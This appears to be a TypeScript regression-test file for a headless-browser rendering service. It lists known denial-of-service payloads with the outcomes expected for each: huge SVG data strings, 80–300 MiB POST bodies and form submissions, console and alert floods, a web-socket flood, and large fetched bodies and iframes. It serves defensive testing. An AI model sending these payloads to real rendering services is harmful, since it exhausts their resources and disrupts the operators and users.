import type { Attack } from './attack.ts';
import { began, working } from './scripts.ts';

const options = { timeoutMs: 3000 };
/** Options of attacks that must end before their deadline. */
const patient = { timeoutMs: 30_000 };
/** Whether the render ends in time depends on the machine. */
const SLOW = ['completed', 'RENDER_TIMEOUT', 'SELECTOR_TIMEOUT'];
const MIB = 1024 ** 2;

const done = { ...options, waitForSelector: '.done' };

const SVG = 'image/svg+xml;'.repeat(MIB / 14);
const sendsText = (bytes: number) => `fetch('/x', { method: 'POST', body: 'x'.repeat(${bytes}) })`;

/** Documents that once did harm. */
export const KNOWN_ATTACKS: readonly Attack[] = [
  ...[
    ['text', SVG],
    ['a style sheet', `<style>${SVG}</style>`],
    ['an attribute', `<img src="data:${SVG}"><p style="${SVG}">`],
  ].map(([where, html]) => ({
    name: `a megabyte of the beginnings of an SVG in ${where}`,
    submission: () => ({ html: html!, options }),
    ends: SLOW,
  })),
  ...[80, 300].map(
    (mib): Attack => ({
      name: `a request of ${mib} MiB to the document's own origin`,
      submission: (villain) => ({
        html: working(villain, `await ${sendsText(mib * MIB)}.catch(() => 0)`),
        options: done,
      }),
      ends: SLOW,
      byFree: mib === 300,
    }),
  ),
  {
    name: 'a form of 80 MiB sent to where the document is',
    submission: (villain) => ({
      html: `<form method=post action="/"><textarea name=t></textarea></form><script>if (!sessionStorage.sent) {
        ${began(villain)}; sessionStorage.sent = 1; document.forms[0].t.value = 'x'.repeat(${80 * MIB}); document.forms[0].submit() }</script>`,
      options: done,
    }),
    // Chromium itself may end a page that sends this much.
    ends: ['DOCUMENT_LIMIT', 'BROWSER_CRASHED', ...SLOW],
  },
  ...[80, 300].map(
    (mib): Attack => ({
      name: `requests of ${mib} MiB under asset headers`,
      submission: (villain) => ({
        html: working(
          villain,
          `await fetch('${villain.origin}/', { method: 'POST', body: 'x'.repeat(${mib * MIB}) }).catch(() => 0)`,
        ),
        options: { ...done, assetHeaders: { 'X-Asset': 'a' } },
      }),
      ends: ['DOCUMENT_LIMIT', 'BROWSER_CRASHED', 'RENDER_TIMEOUT', 'SELECTOR_TIMEOUT'],
    }),
  ),
  {
    name: 'a flood of console messages',
    submission: (villain) => ({
      html: working(villain, `for (let i = 0; i < 300_000; i++) console.log('x'.repeat(100), i)`),
      options: done,
    }),
    ends: SLOW,
    byFree: true,
  },
  {
    name: 'a flood of dialogs',
    submission: (villain) => ({
      html: working(villain, `for (let i = 0; i < 10_000; i++) alert(i)`),
      options: { ...done, ...patient },
    }),
    ends: ['DOCUMENT_LIMIT'],
    byFree: true,
  },
  {
    name: 'a source URL with a flood of web-socket frames',
    submission: (villain) => ({
      url: villain.page(
        working(
          villain,
          `const socket = new WebSocket('${villain.origin.replace('http', 'ws')}/flood');
          await new Promise((resolve) => { socket.onclose = resolve })`,
        ),
      ),
      options: done,
    }),
    ends: ['DOCUMENT_LIMIT', 'SELECTOR_TIMEOUT'],
    byFree: true,
  },
  {
    name: 'a source URL that reads a body of 200 MiB',
    submission: (villain) => ({
      url: villain.page(
        working(villain, `await (await fetch('${villain.origin}/bytes?n=${200 * MIB}')).arrayBuffer()`),
      ),
      options: done,
    }),
    ends: ['BROWSER_CRASHED', ...SLOW],
  },
  {
    name: 'a source URL of 600 MiB under a policy of the render',
    submission: ({ origin }) => ({
      url: `${origin}/bytes?n=${600 * MIB}`,
      options: { ...patient, csp: "script-src 'none'" },
    }),
    ends: ['DOCUMENT_LIMIT'],
    byFree: true,
  },
  {
    name: 'a source URL with a hundred frames of 15 MiB under a policy of the render',
    submission: (villain) => ({
      url: villain.page(
        Array.from(
          { length: 100 },
          (_, i) => `<iframe src="${villain.origin}/bytes?n=${15 * MIB}&i=${i}"></iframe>`,
        ).join(''),
      ),
      options: { ...patient, csp: "script-src 'none'" },
    }),
    ends: ['DOCUMENT_LIMIT', 'BROWSER_CRASHED'],
    byFree: true,
  },
];
